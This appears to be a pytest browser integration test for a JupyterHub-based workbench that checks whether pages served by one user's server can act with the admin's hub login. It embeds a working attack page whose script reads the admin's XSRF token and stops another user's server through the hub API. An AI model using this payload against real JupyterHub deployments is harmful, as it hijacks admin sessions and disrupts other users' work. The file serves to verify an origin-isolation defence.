"""Servers isolated by origin, in a real browser: a page student1 serves cannot act with the admin's hub login.

Real, nothing pretend: two embedded workbenches, one after the other: ``workbench up --no-subdomains`` (every
server is a path of the hub's origin) and the default of `workbench up` (``http://<user>.localhost:<port>/user/<user>/``,
the hub at ``http://localhost:<port>``, where the admin gets by opening ``http://127.0.0.1:<port>/``, the README's URL);
the hub, its proxy and services, JupyterLab servers of researcher and student1 as their own Unix accounts
with jupyter-server-proxy (enabled in every server), and Debian's Chromium driven by selenium.

The attack, the same in both: student1 writes ``evil.html`` into their home through their own server (the
contents API, with student1's token) and serves it from their server two ways: jupyter_server's
``/files/evil.html``, and ``/proxy/<port>/evil.html`` from a web server student1 runs as their own account.
The victim is the demo admin, logged in in Chromium, who opens the page (an admin may open any server, after
the hub's consent page). With ``credentials: 'include'`` its script asks the hub for ``/hub/api/user``,
reads ``/hub/home`` for the admin's XSRF token, asks ``/hub/api/user`` again with it, reads researcher's server (``/hub/api/users/researcher``) and
stops it (``DELETE /hub/api/users/researcher/server``). Each request carries a probe id, so the hub's log
shows whose login it came with.

Without subdomains the ``/proxy/`` page runs on the hub's origin and does all of it as the admin:
researcher's server stops. With subdomains every request fails in the browser, the hub logs the page's
request with no user (no login came with it), and researcher's server still runs. ``/files/``
pages are confined in both modes by jupyter_server's ``sandbox`` Content-Security-Policy (an opaque origin).
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import uuid

import psutil
import pytest
import requests

from workbench.sysusers import USER_PREFIX

from ..integration.harness import PASSWORD, Workbench, free_port, state_dir
from ..integration.test_origins import login_token
from ..integration.test_quota_enforcement import wait_for
from .test_lab_notifications_browser import chrome_or_skip

pytestmark = pytest.mark.integration

EVIL = """<!doctype html><html><body><pre id="out">running</pre><script>
const HUB = "__HUB__", KIND = location.pathname.includes("/proxy/") ? "proxy" : "files";
const PROBE = "__PROBE__-" + KIND;
window.results = {};
async function attempt(name, path, opts) {
  try {
    const r = await fetch(HUB + path + "?probe=" + PROBE + "-" + name, Object.assign({credentials: "include"}, opts || {}));
    const body = await r.text();
    window.results[name] = {status: r.status, body: body.slice(0, 20000)};
    return body;
  } catch (e) { window.results[name] = {error: String(e)}; return null; }
}
(async () => {
  await attempt("user", "/hub/api/user");
  const home = await attempt("home", "/hub/home");
  const m = home && home.match(/xsrf_token: "([^"]*)"/);
  const h = {"X-XSRFToken": m ? m[1] : ""};
  await attempt("whoami", "/hub/api/user", {headers: h});
  await attempt("researcher", "/hub/api/users/researcher", {headers: h});
  await attempt("stop", "/hub/api/users/researcher/server", {method: "DELETE", headers: h});
  document.getElementById("out").textContent = JSON.stringify(window.results, null, 1);
  window.done = true;
})();
</script></body></html>
"""


@pytest.fixture(scope="module")
def browser():
    driver = chrome_or_skip()
    yield driver
    driver.quit()


class Setup:
    """One workbench with researcher's and student1's servers running and student1's page served both ways."""

    def __init__(self, subdomains: bool):
        self.subdomains = subdomains
        self.wb: Workbench | None = None
        self.tokens: dict[str, str] = {}
        self.web_server: subprocess.Popen | None = None
        self.probe = uuid.uuid4().hex

    def start(self) -> None:
        self.wb = Workbench(state_dir("wb-origins-browser-"), subdomains=self.subdomains).start()
        port = self.wb.port
        self.hub = self.wb.url  # the hub's origin: http://localhost:<port> with subdomains, else 127.0.0.1
        self.student_origin = f"http://student1.localhost:{port}" if self.subdomains else self.wb.url
        self.admin = login_token(self.wb, "admin")
        self.tokens = {u: login_token(self.wb, u) for u in ("researcher", "student1")}
        for user, token in self.tokens.items():
            self.wb.start_server(token, user)
        # student1 writes the page into their home through their own server
        page = EVIL.replace("__HUB__", self.hub if self.subdomains else "").replace("__PROBE__", self.probe)
        r = requests.put(
            f"{self.wb.server_url('student1')}api/contents/evil.html",  # *.localhost: tests/conftest.py resolves it
            headers={"Authorization": f"token {self.tokens['student1']}"},
            json={"type": "file", "format": "text", "content": page},
            timeout=60,
        )
        assert r.status_code in (200, 201), r.text
        # and serves their home with a web server of their own, which their server proxies
        self.web_port = free_port()
        home = self.wb.home("student1")
        self.web_server = subprocess.Popen(
            [
                "runuser",
                "-u",
                f"{USER_PREFIX}student1",
                "--",
                "/usr/bin/python3",
                "-m",
                "http.server",
                str(self.web_port),
            ]
            + ["--bind", "127.0.0.1", "--directory", str(home)],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )

        def listening():
            with socket.socket() as s:
                return s.connect_ex(("127.0.0.1", self.web_port)) == 0

        wait_for(listening, 30, "student1's web server")

    def researchers_server(self) -> dict | None:
        r = requests.get(
            f"{self.wb.url}/hub/api/users/researcher", headers={"Authorization": f"token {self.admin}"}, timeout=30
        )
        return r.json().get("servers", {}).get("")

    def hub_log_line(self, kind: str, name: str) -> str:
        """The hub's access log line (``status method uri (user@ip)``) of the request ``name`` of the page ``kind``
        (files, proxy), once it is there."""
        marker = f"?probe={self.probe}-{kind}-{name} "

        def line():
            return next((x for x in self.wb.hub_log().splitlines() if marker in x and "JupyterHub log:" in x), None)

        return wait_for(line, 30, f"the hub's log line of {marker}")

    def stop(self) -> None:
        if self.wb is None:
            return
        if self.web_server is not None:  # runuser and the server it started as student1
            for p in psutil.Process(self.web_server.pid).children(recursive=True):
                os.kill(p.pid, signal.SIGTERM)
            self.web_server.terminate()
            self.web_server.wait(timeout=30)
        for user, token in self.tokens.items():
            model = requests.get(
                f"{self.wb.url}/hub/api/users/{user}", headers={"Authorization": f"token {token}"}, timeout=30
            ).json()
            if model.get("servers"):
                self.wb.stop_server(token, user)
        assert self.wb.stop() == 0, self.wb.output()[-3000:]
        assert not self.wb.leftovers(), self.wb.leftovers()


def admin_opens(browser, setup: Setup, path: str) -> dict:
    """The admin, logged in in Chromium, opens ``path`` of student1's server; returns what its script got."""
    browser.get(f"{setup.student_origin}/user/student1/{path}")

    def finished():
        if "/oauth2/authorize" in browser.current_url:  # the hub asks the admin to authorize the access
            buttons = browser.find_elements("css selector", "form [type=submit]")
            if buttons:
                buttons[0].click()
            return None
        return browser.execute_script("return window.done === true ? window.results : null")

    return wait_for(finished, 120, f"the script of {path} as the admin opened it")


def log_in(browser, setup: Setup, user: str, start: str = "") -> None:
    """Log ``user`` in through the hub's login form, opened at ``start`` (default: the hub's login page)."""
    browser.delete_all_cookies()
    browser.get(start or f"{setup.hub}/hub/login")
    wait_for(lambda: browser.find_elements("id", "username_input"), 60, "the login form")
    assert browser.current_url.startswith(f"{setup.hub}/hub/login"), browser.current_url
    browser.find_element("id", "username_input").send_keys(user)
    browser.find_element("id", "password_input").send_keys(PASSWORD)
    browser.find_element("id", "login_submit").click()
    wait_for(lambda: "/hub/login" not in browser.current_url, 60, "the login")


def test_without_subdomains_a_page_student1_serves_acts_with_the_admins_hub_login(browser):
    setup = Setup(subdomains=False)
    try:
        setup.start()
        browser.set_page_load_timeout(120)
        log_in(browser, setup, "admin")

        # /files/ is sandboxed (an opaque origin): the browser sends no cookie (the hub logs no user) and lets the
        # page read nothing
        sandboxed = admin_opens(browser, setup, "files/evil.html")
        assert all("error" in v for v in sandboxed.values()), sandboxed
        assert "(@127.0.0.1)" in setup.hub_log_line("files", "user")
        assert setup.researchers_server(), "the sandboxed page stopped researcher's server"

        # a page of student1's own web server, through the server's proxy, is the hub's origin: it is the admin
        got = admin_opens(browser, setup, f"proxy/{setup.web_port}/evil.html")
        # the admin's cookie goes with its first request (the hub logs the admin; the API wants an XSRF token) ...
        assert got["user"]["status"] == 403, got
        assert "(admin@127.0.0.1)" in setup.hub_log_line("proxy", "user")
        # ... which the page reads from the hub's own pages, and then it is the admin
        assert got["home"]["status"] == 200, got
        assert got["whoami"]["status"] == 200 and json.loads(got["whoami"]["body"])["name"] == "admin", got
        assert got["researcher"]["status"] == 200, got
        assert json.loads(got["researcher"]["body"])["servers"][""]["ready"], got
        assert got["stop"]["status"] in (202, 204), got
        wait_for(lambda: setup.researchers_server() is None, 120, "researcher's server to stop")
    finally:
        setup.stop()


def test_by_default_the_same_page_gets_nothing_and_researchers_server_runs_on(browser):
    setup = Setup(subdomains=True)
    try:
        setup.start()
        browser.set_page_load_timeout(120)
        # the admin opens the README's http://127.0.0.1:<port>/ and is sent to the hub's origin, where the login sticks
        log_in(browser, setup, "admin", start=f"{setup.wb.loopback_url}/")
        assert setup.hub == f"http://localhost:{setup.wb.port}"
        assert browser.current_url.startswith(f"{setup.hub}/hub/"), browser.current_url
        assert "admin" in browser.page_source
        for kind, path in (("files", "files/evil.html"), ("proxy", f"proxy/{setup.web_port}/evil.html")):
            got = admin_opens(browser, setup, path)
            assert browser.current_url.startswith(setup.student_origin), browser.current_url
            # no answer reached the page, and the hub served the request with no user: no login came with it
            # (a cross-site request: the browser keeps the hub's SameSite=Lax cookie, and a cookie login would
            # need the XSRF token of the hub's pages, which this origin cannot read)
            assert all("error" in v for v in got.values()), (path, got)
            line = setup.hub_log_line(kind, "user")
            assert "(@127.0.0.1)" in line and " 403 " in f" {line} ", line
        server = setup.researchers_server()
        assert server and server["ready"], "researcher's server was stopped by student1's page"
        # the DELETE needs a CORS preflight (logged: OPTIONS), which the hub does not grant: it was never sent
        assert " OPTIONS /hub/api/users/researcher/server?probe=" in setup.hub_log_line("proxy", "stop")
        assert f"DELETE /hub/api/users/researcher/server?probe={setup.probe}" not in setup.wb.hub_log()
    finally:
        setup.stop()
